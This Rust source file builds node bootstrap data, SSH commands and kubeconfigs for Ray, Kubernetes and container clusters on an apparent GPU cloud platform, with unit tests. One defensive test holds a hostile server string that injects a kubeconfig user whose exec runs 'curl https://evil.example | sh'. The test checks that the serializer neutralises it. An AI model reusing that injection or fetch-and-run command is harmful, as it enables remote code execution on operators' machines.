//! What each node of a cluster is told to run, and how the customer reaches the cluster.
//!
//! Ray and Kubernetes clusters come up in two steps: node 0 (the Ray head, or the k3s server)
//! starts at once; the others wait, unseen by their agents, until node 0 reports ready with
//! its address, and then get bootstraps that point at it. Containers all start at once.
//!
//! Every bootstrap carries the cluster's [`Workload`]: the SSH keys its nodes let in as `root`
//! and, for a container, its command, ports and environment.

use serde::Serialize;
use serde_json::{Value, json};

use super::spec::ClusterKind;
use crate::capacity::NodeStart;
use crate::placement::PlanNode;
use crate::providers::agent::Workload;
use crate::providers::certificate::CaCertificate;
use crate::providers::endpoints::Endpoints;

/// Ports node 0 listens on, written into its bootstrap.
const RAY_GCS_PORT: u16 = 6379;
const RAY_CLIENT_PORT: u16 = 10001;
const RAY_DASHBOARD_PORT: u16 = 8265;
const K8S_API_PORT: u16 = 6443;

/// The user every node's SSH lets in (images do not choose another).
const SSH_USER: &str = "root";

pub(crate) struct ClusterBoot<'a> {
    pub cluster_id: &'a str,
    pub kind: ClusterKind,
    pub image: &'a str,
    pub join_token: &'a str,
    pub workload: &'a Workload,
}

impl ClusterBoot<'_> {
    /// Node `index`'s role and bootstrap. Followers' bootstraps name their leader's node id
    /// now and its address once it is up ([`follower_ready`]).
    pub fn node(&self, index: usize, first: Option<&str>, node: &PlanNode) -> NodeStart {
        let (role, start_now) = role_of(self.kind, index);
        let mut bootstrap = json!({
            "kind": self.kind.as_str(),
            "role": role,
            "cluster_id": self.cluster_id,
            "image": self.image,
            "gpus": node.gpus,
            "join_token": self.join_token,
        });
        match (self.kind, start_now) {
            (ClusterKind::Ray, true) => {
                bootstrap["ports"] = json!({
                    "gcs": RAY_GCS_PORT, "client": RAY_CLIENT_PORT, "dashboard": RAY_DASHBOARD_PORT
                });
            }
            (ClusterKind::Kubernetes, true) => {
                bootstrap["distribution"] = json!("k3s");
                bootstrap["ports"] = json!({ "api_server": K8S_API_PORT });
                bootstrap["admin_token"] = json!(admin_token(self.join_token));
            }
            (_, false) => {
                bootstrap["leader_node_id"] = json!(first);
            }
            (ClusterKind::Container, true) => {}
        }
        self.workload.write_into(&mut bootstrap);
        NodeStart {
            role,
            bootstrap,
            start_now,
        }
    }
}

/// The role of node `index` of a cluster of `kind`, and whether it starts at once.
pub(crate) fn role_of(kind: ClusterKind, index: usize) -> (&'static str, bool) {
    match (kind, index) {
        (ClusterKind::Ray, 0) => ("head", true),
        (ClusterKind::Ray, _) => ("worker", false),
        (ClusterKind::Kubernetes, 0) => ("control_plane", true),
        (ClusterKind::Kubernetes, _) => ("agent", false),
        (ClusterKind::Container, _) => ("container", true),
    }
}

/// Whether nodes of `role` lead a cluster (the others join them).
pub(crate) fn is_leader(role: &str) -> bool {
    matches!(role, "head" | "control_plane")
}

/// The address a follower joins, from its leader's reported endpoints.
pub(crate) fn leader_address(kind: ClusterKind, endpoints: &Endpoints) -> Option<String> {
    let key = match kind {
        ClusterKind::Ray => "ray",
        ClusterKind::Kubernetes => "api_server",
        ClusterKind::Container => return None,
    };
    endpoints.get(key).map(|e| e.as_str().to_string())
}

/// A waiting follower's bootstrap once its leader answers at `address`.
pub(crate) fn follower_ready(bootstrap: &mut Value, leader_node: &str, address: &str) {
    bootstrap["leader_node_id"] = json!(leader_node);
    bootstrap["leader_address"] = json!(address);
}

/// The bearer token of the kubeconfig: derived from the join secret, so nodes need not be
/// given the customer's credential and the customer never holds the nodes' one.
fn admin_token(join_token: &str) -> String {
    crate::secrets::hash(&format!("admin:{join_token}"))
}

/// The command that logs in to a node whose SSH endpoint is `endpoint` (`host:port`), as
/// `root`; with `identity`, the file of the one key the nodes let in (`~/.ssh/<identity>`).
fn ssh_command(endpoint: &str, identity: Option<&str>) -> String {
    let (host, port) = match endpoint.rsplit_once(':') {
        Some((host, port)) if !host.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => {
            (host, Some(port))
        }
        _ => (endpoint, None),
    };
    // A bracketed IPv6 address is written bare after `user@`.
    let host = host.trim_start_matches('[').trim_end_matches(']');
    let mut command = "ssh".to_string();
    if let Some(port) = port.filter(|p| *p != "22") {
        command.push_str(&format!(" -p {port}"));
    }
    if let Some(file) = identity {
        command.push_str(&format!(" -i ~/.ssh/{file}"));
    }
    command.push_str(&format!(" {SSH_USER}@{host}"));
    command
}

/// How the customer reaches a running cluster, from the nodes' reported endpoints:
/// `(node_id, role, endpoints)` of every current node, and the certificate authority the
/// Kubernetes control plane reported. Addresses and public certificates only: anyone who may
/// read the cluster reads this, so the Kubernetes admin credential is served apart
/// ([`kubernetes_credentials`]). A container node with an `ssh` endpoint gets the command
/// that logs in to it, naming the identity file (`ssh_identity`) when the nodes let in
/// exactly one key whose name can be a file's.
pub(crate) fn connection(
    kind: ClusterKind,
    nodes: &[(String, String, Endpoints)],
    leader_ca: Option<&CaCertificate>,
    ssh_identity: Option<&str>,
) -> Value {
    let leader = nodes.iter().find(|(_, role, _)| is_leader(role));
    match (kind, leader) {
        (ClusterKind::Ray, Some((id, _, ep))) => json!({
            "head_node_id": id,
            "ray_address": ep.get("client"),
            "gcs_address": ep.get("ray"),
            "dashboard_url": ep.get("dashboard"),
        }),
        (ClusterKind::Kubernetes, Some((id, _, ep))) => {
            let server = ep.get("api_server").map_or("", |e| e.as_str());
            json!({
                "control_plane_node_id": id,
                "api_server": server,
                "certificate_authority": leader_ca.map(CaCertificate::as_pem),
            })
        }
        _ => json!({
            "ssh_user": SSH_USER,
            "nodes": nodes
                .iter()
                .map(|(id, _, ep)| {
                    let mut node = json!({"node_id": id, "endpoints": ep});
                    if let Some(ssh) = ep.get("ssh") {
                        node["ssh_command"] = json!(ssh_command(ssh.as_str(), ssh_identity));
                    }
                    node
                })
                .collect::<Vec<_>>(),
        }),
    }
}

/// A kubeconfig (`kubectl config view` shape) with one cluster, one user and one context.
#[derive(Serialize)]
struct KubeConfig<'a> {
    #[serde(rename = "apiVersion")]
    api_version: &'static str,
    kind: &'static str,
    clusters: [Named<'a, KubeCluster<'a>>; 1],
    users: [Named<'a, KubeUser<'a>>; 1],
    contexts: [Named<'a, KubeContext<'a>>; 1],
    #[serde(rename = "current-context")]
    current_context: &'a str,
}

#[derive(Serialize)]
struct Named<'a, T> {
    name: &'a str,
    #[serde(flatten)]
    value: T,
}

#[derive(Serialize)]
struct KubeCluster<'a> {
    cluster: KubeServer<'a>,
}

#[derive(Serialize)]
struct KubeServer<'a> {
    server: &'a str,
    /// The cluster's certificate authority (base64 of its PEM): `kubectl` verifies the API
    /// server against it.
    #[serde(rename = "certificate-authority-data")]
    certificate_authority_data: String,
}

#[derive(Serialize)]
struct KubeUser<'a> {
    user: KubeToken<'a>,
}

#[derive(Serialize)]
struct KubeToken<'a> {
    token: &'a str,
}

#[derive(Serialize)]
struct KubeContext<'a> {
    context: KubeContextRefs<'a>,
}

#[derive(Serialize)]
struct KubeContextRefs<'a> {
    cluster: &'a str,
    user: &'a str,
}

/// The keys of a connection that hold a secret. Rows written before credentials were served
/// apart may still carry them; they are dropped from every view of the cluster.
pub(crate) const SECRET_CONNECTION_KEYS: [&str; 1] = ["kubeconfig"];

/// A Kubernetes cluster's admin bearer token and a kubeconfig holding it, for the API server
/// at `server` whose certificate `ca` signed. The kubeconfig is written by a serializer, so no
/// reported value can add to its structure.
pub(crate) fn kubernetes_credentials(
    cluster_name: &str,
    join_token: &str,
    server: &str,
    ca: &CaCertificate,
) -> (String, String) {
    let token = admin_token(join_token);
    let config = kubeconfig(cluster_name, server, ca, &token);
    (token, config)
}

fn kubeconfig(name: &str, server: &str, ca: &CaCertificate, token: &str) -> String {
    let user = format!("{name}-admin");
    let config = KubeConfig {
        api_version: "v1",
        kind: "Config",
        clusters: [Named {
            name,
            value: KubeCluster {
                cluster: KubeServer {
                    server,
                    certificate_authority_data: ca.kubeconfig_data(),
                },
            },
        }],
        users: [Named {
            name: &user,
            value: KubeUser {
                user: KubeToken { token },
            },
        }],
        contexts: [Named {
            name,
            value: KubeContext {
                context: KubeContextRefs {
                    cluster: name,
                    user: &user,
                },
            },
        }],
        current_context: name,
    };
    // Strings, booleans and sequences of them always serialize.
    serde_yaml::to_string(&config).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn node() -> PlanNode {
        PlanNode {
            device_id: "dev_1".into(),
            provider_id: "org_p".into(),
            model: "h100-sxm".into(),
            region: "eu-central".into(),
            gpus: 8,
            price_per_gpu_hour: 2_000_000,
        }
    }

    #[test]
    fn ray_heads_start_and_workers_wait_for_them() {
        let workload = Workload {
            authorized_keys: vec!["ssh-ed25519 AAAA laptop".into()],
            ..Workload::default()
        };
        let boot = ClusterBoot {
            cluster_id: "clu_1",
            kind: ClusterKind::Ray,
            image: "ray",
            join_token: "secret",
            workload: &workload,
        };
        let head = boot.node(0, None, &node());
        assert_eq!((head.role, head.start_now), ("head", true));
        assert_eq!(head.bootstrap["ports"]["dashboard"], 8265);
        assert_eq!(
            head.bootstrap["authorized_keys"],
            json!(["ssh-ed25519 AAAA laptop"])
        );
        assert!(head.bootstrap.get("command").is_none());
        let mut worker = boot.node(1, Some("nod_head"), &node());
        assert_eq!((worker.role, worker.start_now), ("worker", false));
        assert_eq!(worker.bootstrap["leader_node_id"], "nod_head");
        follower_ready(&mut worker.bootstrap, "nod_head", "10.0.0.1:6379");
        assert_eq!(worker.bootstrap["leader_address"], "10.0.0.1:6379");
    }

    fn endpoints(v: serde_json::Value) -> Endpoints {
        Endpoints::parse(v.as_object().unwrap()).unwrap()
    }

    fn ca() -> CaCertificate {
        use base64::Engine;
        let der: Vec<u8> = std::iter::once(0x30).chain(1..=64u8).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(der);
        CaCertificate::parse(&format!(
            "-----BEGIN CERTIFICATE-----\n{b64}\n-----END CERTIFICATE-----\n"
        ))
        .unwrap()
    }

    #[test]
    fn kubernetes_connection_has_no_secret_and_credentials_are_a_kubeconfig() {
        let nodes = vec![(
            "nod_cp".to_string(),
            "control_plane".to_string(),
            endpoints(json!({"api_server": "https://10.0.0.1:6443"})),
        )];
        let c = connection(ClusterKind::Kubernetes, &nodes, Some(&ca()), None);
        assert_eq!(c["api_server"], "https://10.0.0.1:6443");
        assert_eq!(c["control_plane_node_id"], "nod_cp");
        assert_eq!(c["certificate_authority"], ca().as_pem());
        assert!(!c.to_string().contains(&admin_token("secret")));
        let (token, config) =
            kubernetes_credentials("k1", "secret", "https://10.0.0.1:6443", &ca());
        assert_eq!(token, admin_token("secret"));
        assert!(config.contains("server: https://10.0.0.1:6443"));
        assert!(config.contains(&token));
        assert!(!config.contains("secret\n"));
        let parsed: serde_yaml::Value = serde_yaml::from_str(&config).unwrap();
        assert_eq!(parsed["current-context"], "k1");
        assert_eq!(parsed["contexts"][0]["context"]["user"], "k1-admin");
        // The server is verified against the cluster's own authority, never skipped.
        assert_eq!(
            parsed["clusters"][0]["cluster"]["certificate-authority-data"],
            ca().kubeconfig_data()
        );
        assert!(!config.contains("insecure-skip-tls-verify"));
    }

    /// A server string that tries to add a user of its own stays one string: the kubeconfig
    /// still has one cluster, one user and one context, and the string is the server.
    #[test]
    fn a_hostile_server_string_cannot_change_the_kubeconfig() {
        let hostile = "https://x:6443\n- name: ops\n  user:\n    exec: {command: sh, args: [-c, 'curl https://evil.example | sh']}\n\
                       contexts:\n- name: ops\n  context: {cluster: k1, user: ops}\ncurrent-context: ops";
        let config = kubeconfig("k1", hostile, &ca(), "tok");
        let parsed: serde_yaml::Value = serde_yaml::from_str(&config).unwrap();
        for list in ["clusters", "users", "contexts"] {
            assert_eq!(parsed[list].as_sequence().unwrap().len(), 1, "{config}");
        }
        assert_eq!(parsed["clusters"][0]["cluster"]["server"], hostile);
        assert_eq!(parsed["users"][0]["name"], "k1-admin");
        assert_eq!(parsed["users"][0]["user"]["token"], "tok");
        assert!(parsed["users"][0]["user"].get("exec").is_none());
        assert_eq!(parsed["current-context"], "k1");
        assert_eq!(
            parsed.as_mapping().unwrap().len(),
            6,
            "apiVersion, kind, clusters, users, contexts, current-context: {config}"
        );
    }

    #[test]
    fn ray_and_container_connections_carry_the_endpoints() {
        let head = endpoints(json!({"ray": "10.0.0.1:6379", "client": "ray://10.0.0.1:10001"}));
        let nodes = vec![("nod_h".to_string(), "head".to_string(), head.clone())];
        let c = connection(ClusterKind::Ray, &nodes, None, None);
        assert_eq!(c["ray_address"], "ray://10.0.0.1:10001");
        assert_eq!(c["gcs_address"], "10.0.0.1:6379");
        assert_eq!(c["dashboard_url"], serde_json::Value::Null);
        assert_eq!(
            leader_address(ClusterKind::Ray, &head).unwrap(),
            "10.0.0.1:6379"
        );
        let nodes = vec![("nod_c".to_string(), "container".to_string(), head)];
        let c = connection(ClusterKind::Container, &nodes, None, None);
        assert_eq!(c["nodes"][0]["endpoints"]["ray"], "10.0.0.1:6379");
        assert!(
            c["nodes"][0].get("ssh_command").is_none(),
            "no ssh endpoint"
        );
    }

    #[test]
    fn containers_carry_their_workload_and_an_ssh_command() {
        let workload = Workload {
            authorized_keys: vec!["ssh-ed25519 AAAA laptop".into()],
            command: Some(vec!["python".into(), "serve.py".into()]),
            container_ports: vec![8080],
            env: [("MODEL".to_string(), "llama".to_string())].into(),
        };
        let boot = ClusterBoot {
            cluster_id: "clu_1",
            kind: ClusterKind::Container,
            image: "ghcr.io/acme/serve:1",
            join_token: "secret",
            workload: &workload,
        };
        let start = boot.node(1, Some("nod_0"), &node());
        assert_eq!(start.bootstrap["command"], json!(["python", "serve.py"]));
        assert_eq!(start.bootstrap["container_ports"], json!([8080]));
        assert_eq!(start.bootstrap["env"]["MODEL"], "llama");
        assert_eq!(start.bootstrap["image"], "ghcr.io/acme/serve:1");
        assert_eq!(Workload::read_from(&start.bootstrap), workload);
        // A bootstrap from before the workload reads as an empty one.
        assert_eq!(
            Workload::read_from(&json!({"kind": "container"})),
            Workload::default()
        );

        let nodes = vec![
            (
                "nod_a".to_string(),
                "container".to_string(),
                endpoints(json!({"ssh": "10.0.0.5:2222", "port-8080": "10.0.0.5:8080"})),
            ),
            (
                "nod_b".to_string(),
                "container".to_string(),
                endpoints(json!({"ssh": "[2001:db8::7]:22"})),
            ),
        ];
        let c = connection(ClusterKind::Container, &nodes, None, Some("laptop"));
        assert_eq!(c["ssh_user"], "root");
        assert_eq!(
            c["nodes"][0]["ssh_command"],
            "ssh -p 2222 -i ~/.ssh/laptop root@10.0.0.5"
        );
        assert_eq!(
            c["nodes"][1]["ssh_command"],
            "ssh -i ~/.ssh/laptop root@2001:db8::7"
        );
        let plain = connection(ClusterKind::Container, &nodes, None, None);
        assert_eq!(
            plain["nodes"][0]["ssh_command"],
            "ssh -p 2222 root@10.0.0.5"
        );
    }
}
